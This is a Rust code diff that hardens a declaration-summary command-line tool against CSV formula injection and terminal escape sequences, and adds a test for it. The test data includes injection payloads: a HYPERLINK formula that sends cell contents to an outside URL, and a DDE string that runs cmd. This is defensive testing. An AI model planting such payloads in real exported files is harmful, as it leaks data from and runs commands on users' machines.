@@ -32,6 +32,7 @@ mod cli {
     };
     use meizhen_shenbao::model::declaration::{county_display, Attachment, Milestone};
     use meizhen_shenbao::model::field::{FieldId, PersonField, Role};
+    use meizhen_shenbao::model::safe_text::{csv_line, terminal_line};
     use meizhen_shenbao::model::signed_file::{
         fingerprint_groups, verify, Verified, VerifyError, MAX_FILE_BYTES,
     };
@@ -161,11 +162,10 @@ summary 输出 UTF-8（带 BOM）的 CSV，可直接用 Excel 或 WPS 打开：�
         verify(&bytes).map_err(Failure::Invalid)
     }
 
-    /// One line of text: control characters (tabs, line breaks) become spaces.
+    /// One line of text for the terminal: no line breaks, escape sequences or direction
+    /// overrides.
     fn one_line(text: &str) -> String {
-        text.chars()
-            .map(|c| if c.is_control() { ' ' } else { c })
-            .collect()
+        terminal_line(text)
     }
 
     fn applicant(verified: &Verified) -> String {
@@ -342,25 +342,6 @@ summary 输出 UTF-8（带 BOM）的 CSV，可直接用 Excel 或 WPS 打开：�
             path.to_string_lossy().into_owned(),
         ]);
         cells
-    }
-
-    /// One CSV field (RFC 4180): quoted when it holds a comma, a quote or a line break.
-    pub fn csv_field(text: &str) -> String {
-        if text.contains([',', '"', '\n', '\r']) {
-            format!("\"{}\"", text.replace('"', "\"\""))
-        } else {
-            text.to_string()
-        }
-    }
-
-    pub fn csv_line(cells: &[String]) -> String {
-        let mut line = cells
-            .iter()
-            .map(|c| csv_field(c))
-            .collect::<Vec<_>>()
-            .join(",");
-        line.push_str("\r\n");
-        line
     }
 
     fn summary_command(paths: &[PathBuf], stdout: &mut dyn Write, stderr: &mut dyn Write) -> i32 {
@@ -551,19 +532,6 @@ summary 输出 UTF-8（带 BOM）的 CSV，可直接用 Excel 或 WPS 打开：�
             let _ = std::fs::remove_dir_all(&dir);
         }
 
-        #[test]
-        fn csv_fields_are_quoted_when_needed() {
-            assert_eq!(csv_field("桐庐县"), "桐庐县");
-            assert_eq!(csv_field("a,b"), "\"a,b\"");
-            assert_eq!(csv_field("说\"好\""), "\"说\"\"好\"\"\"");
-            assert_eq!(csv_field("第一段\n第二段"), "\"第一段\n第二段\"");
-            assert_eq!(csv_field("a\rb"), "\"a\rb\"");
-            assert_eq!(
-                csv_line(&["x".into(), "y,z".into(), String::new()]),
-                "x,\"y,z\",\r\n"
-            );
-        }
-
         /// Reads RFC 4180 CSV (enough for these tests): rows of fields.
         fn parse_csv(text: &str) -> Vec<Vec<String>> {
             let mut rows = Vec::new();
@@ -653,6 +621,45 @@ summary 输出 UTF-8（带 BOM）的 CSV，可直接用 Excel 或 WPS 打开：�
             // Only valid files: exit 0.
             let (code, _, err) = run_with(&[os("summary"), a.as_os_str()]);
             assert_eq!((code, err.as_str()), (0, ""));
+            let _ = std::fs::remove_dir_all(&dir);
+        }
+
+        #[test]
+        fn summary_cells_that_would_start_a_formula_are_written_as_text() {
+            let dir = temp_dir("formula");
+            let path = signed_file(&dir, "f.json", |d| {
+                d.cluster_name = "=HYPERLINK(\"http://x.cn/\"&B2,\"详情\")".into();
+                d.coordinator.unit = "@SUM(1+9)*cmd|' /C calc'!A0".into();
+                d.coordinator.title = "+1+1".into();
+                d.contact.title = "-2+3".into();
+                d.contact.unit = "＝1+1".into();
+            });
+            let (code, out, err) = run_with(&[os("summary"), path.as_os_str()]);
+            assert_eq!((code, err.as_str()), (0, ""), "{out}");
+            let rows = parse_csv(out.trim_start_matches('\u{feff}'));
+            let header = &rows[0];
+            let col = |name: &str| header.iter().position(|h| h == name).unwrap();
+            let row = &rows[1];
+            assert_eq!(
+                row[col("集群名称")],
+                "'=HYPERLINK(\"http://x.cn/\"&B2,\"详情\")"
+            );
+            assert_eq!(
+                row[col("总协调人 所在单位")],
+                "'@SUM(1+9)*cmd|' /C calc'!A0"
+            );
+            assert_eq!(row[col("总协调人 职务")], "'+1+1");
+            assert_eq!(row[col("具体联系人 职务")], "'-2+3");
+            assert_eq!(row[col("具体联系人 所在单位")], "'＝1+1");
+            // No cell of the file starts with a formula character.
+            for row in &rows {
+                for cell in row {
+                    assert!(
+                        !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']),
+                        "{cell:?}"
+                    );
+                }
+            }
             let _ = std::fs::remove_dir_all(&dir);
         }
     }
